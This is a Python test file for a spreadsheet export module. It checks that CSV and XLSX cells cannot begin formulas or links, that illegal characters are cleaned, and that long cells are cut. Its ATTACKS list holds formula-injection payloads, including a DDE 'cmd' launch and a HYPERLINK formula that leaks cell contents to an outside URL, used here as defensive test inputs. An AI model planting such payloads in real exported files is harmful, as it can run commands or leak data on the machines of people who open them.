"""Cells: values joined and parted, nothing that a spreadsheet takes for a formula, nothing too long for one."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caseline.export.listing import Csv, Xlsx
from caseline.export.listing.cells import (
    MOST_UNITS,
    clean,
    guarded,
    joined,
    of_parts,
    unguarded,
    values_of,
)
from caseline.schema.report import CaseReport
from tests.record_strategies import CHARACTERS
from tests.unit.export.example import example
from tests.unit.export.listing.reading import csv_rows, written, xlsx_cells

SIGNS = "=+-@＝＋－＠"
TEXTS = st.text(st.one_of(CHARACTERS, st.sampled_from(";|\\ '\"=+-@,\t\r\n＝")), max_size=20)
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    'x";=1+1',
    'x", =1+1',
    "x;=1+1",
    "x\n=1+1",
    "'=1+1",
    "\t'=1+1",
    "“=1+1",
    "{=1+1}",
    "DDE(1)",
    "http://example.com",
    "mailto:a@b.c",
]


@given(st.lists(st.none() | TEXTS, max_size=4))
def test_values_come_back(values: list[str | None]) -> None:
    expected = [[value] if value else None for value in values]
    assert values_of(joined(values)) == (expected if any(values) else [])


@given(st.lists(st.lists(TEXTS, max_size=3), max_size=3))
def test_parts_of_values_come_back(values: list[list[str]]) -> None:
    expected = [list(filter(None, value)) or None for value in values]
    assert values_of(joined(map(of_parts, values))) == (expected if any(expected) else [])


@given(TEXTS)
def test_what_was_guarded_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(TEXTS)
def test_nothing_guarded_begins_a_formula_anywhere(text: str) -> None:
    found = guarded(text)
    assert not found.lstrip().startswith(tuple(SIGNS))
    assert not found.startswith(("\t", "\r", "\n"))
    for separator in ";,|\t\r\n\"'":
        for piece in found.split(separator)[1:]:
            begins = piece.lstrip(" ").startswith(tuple(SIGNS))
            # After an apostrophe it begins a text.
            assert not begins or separator == "'"


def test_plain_words_stay_as_they_are() -> None:
    for text in ("12-year-old woman", "beta-blocker, twice", "ALT +++", "a @ b", "p = 0.3", ""):
        assert guarded(text) == text


def _with(words: str) -> CaseReport:
    """Returns a record that says some words wherever it can."""
    record = example()
    case = record.cases[0]
    event = case.events[0].model_copy(update={"name": words, "severity": words, "findings": (words, words)})
    drug = case.drugs[0].model_copy(update={"name": words, "start": words})
    document = record.document.model_copy(update={"title": words, "source": words, "journal": words})
    changed = case.model_copy(update={"events": (event,), "drugs": (drug,), "relation": words})
    return record.model_copy(update={"document": document, "cases": (changed,)})


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_begins_a_formula(attack: str) -> None:
    record = _with(attack)
    (row,) = csv_rows(written(Csv(), [record]))
    assert row["Source"] == guarded(clean(attack))
    for cell in row.values():
        assert not cell.lstrip().startswith(tuple(SIGNS))
    # Nor where a program takes semicolons for what parts the cells.
    text = written(Csv(), [record]).decode("utf-8-sig")
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for cell in line:
            assert not cell.lstrip().startswith(tuple(SIGNS)), cell


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(attack: str) -> None:
    data = written(Xlsx(), [_with(attack)])
    (cells,) = xlsx_cells(data)
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not any(cell.hyperlink for cell in cells)
    source = cells[1]
    assert source.value == clean(attack)
    # It stays a text when somebody edits it.
    assert source.quotePrefix == clean(attack).startswith((*SIGNS, "\t", "\n", " ", "'="))
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet
        assert not [name for name in parts.namelist() if "external" in name or "_rels/sheet" in name]


def test_a_workbook_with_a_formula_is_noticed() -> None:
    xlsxwriter = pytest.importorskip("xlsxwriter")
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet("Cases")
        sheet.write_string(0, 0, "Title")
        sheet.write(1, 0, "=1+1")
    ((cell,),) = xlsx_cells(content.getvalue())
    assert cell.data_type == "f"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("a\0b\x0bc\ufffe", "a\ufffdb\ufffdc\ufffd", id="illegal"),
        pytest.param("a\r\nb\rc\u2028d", "a\nb\nc\nd", id="line-breaks"),
        pytest.param("_x0041_", "_x0041_", id="looks-escaped"),
        pytest.param("  two  ", "  two  ", id="spaces"),
        pytest.param("😀𝔘é", "😀𝔘é", id="any-unicode"),
        pytest.param("<r>1 < 2 & 3</r>", "<r>1 < 2 & 3</r>", id="looks-like-a-rich-text"),
        pytest.param("<r></r>", "<r></r>", id="looks-like-an-empty-rich-text"),
        pytest.param("<r><t>a</t></r><r>b", "<r><t>a</t></r><r>b", id="begins-like-a-rich-text"),
    ],
)
def test_texts_that_formats_stumble_over(text: str, expected: str) -> None:
    assert clean(text) == expected
    record = _with(text)
    assert csv_rows(written(Csv(), [record]))[0]["Source"] == expected
    (cells,) = xlsx_cells(written(Xlsx(), [record]))
    assert cells[1].value == expected


@pytest.mark.parametrize("sign", ["a", "😀"])
def test_a_cell_ends_where_excel_ends_it(sign: str) -> None:
    units = len(sign.encode("utf-16-le")) // 2
    fits = sign * (MOST_UNITS // units)
    assert clean(fits) == fits
    found = clean(fits + "bb")
    assert found.endswith(" […]")
    assert len(found.encode("utf-16-le")) // 2 in {MOST_UNITS, MOST_UNITS - 1}
    (cells,) = xlsx_cells(written(Xlsx(), [_with(fits + "bb")]))
    assert cells[1].value == found


def test_a_cell_is_no_longer_for_its_apostrophes() -> None:
    words = "-" * 3 + ";-" * MOST_UNITS
    (row,) = csv_rows(written(Csv(), [_with(words)]))
    assert row["Title"].startswith("'---;'-;'-")
    assert row["Title"].endswith(" […]")
    assert len(row["Title"]) == MOST_UNITS


def test_quotes_and_line_breaks_are_quoted() -> None:
    words = 'a "quoted" word,\nand a line; more'
    data = written(Csv(), [_with(words)])
    assert csv_rows(data)[0]["Title"] == words
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    assert b'""quoted""' in data
